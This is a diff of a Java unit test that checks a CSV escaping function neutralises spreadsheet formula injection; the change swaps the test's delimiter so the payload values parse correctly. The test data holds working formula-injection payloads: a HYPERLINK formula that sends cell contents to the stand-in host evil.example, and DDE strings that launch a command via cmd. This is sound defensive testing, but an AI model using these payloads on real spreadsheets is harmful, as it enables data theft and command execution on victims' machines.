@@ -41,12 +41,12 @@ class CallRecordCsvTests {
 	}
 
 	@ParameterizedTest
-	@CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
-			=HYPERLINK("http://evil.example/?"&A1)  | `"'=HYPERLINK(""http://evil.example/?""&A1)"`
-			+1+cmd|' /C calc'!A0                    | `"'+1+cmd|' /C calc'!A0"`
-			-2+3                                    | `"'-2+3"`
-			@SUM(1+1)*cmd|' /C calc'!A0             | `"'@SUM(1+1)*cmd|' /C calc'!A0"`
-			+44 20 7946 0018                        | `"'+44 20 7946 0018"`
+	@CsvSource(delimiterString = " => ", quoteCharacter = '`', textBlock = """
+			=HYPERLINK("http://evil.example/?"&A1) => `"'=HYPERLINK(""http://evil.example/?""&A1)"`
+			+1+cmd|' /C calc'!A0 => `"'+1+cmd|' /C calc'!A0"`
+			-2+3 => `"'-2+3"`
+			@SUM(1+1)*cmd|' /C calc'!A0 => `"'@SUM(1+1)*cmd|' /C calc'!A0"`
+			+44 20 7946 0018 => `"'+44 20 7946 0018"`
 			""")
 	void neutralisesCellsThatASpreadsheetRunsAsFormulas(String value, String written) {
 		assertThat(CallRecordCsv.escape(value)).isEqualTo(written);
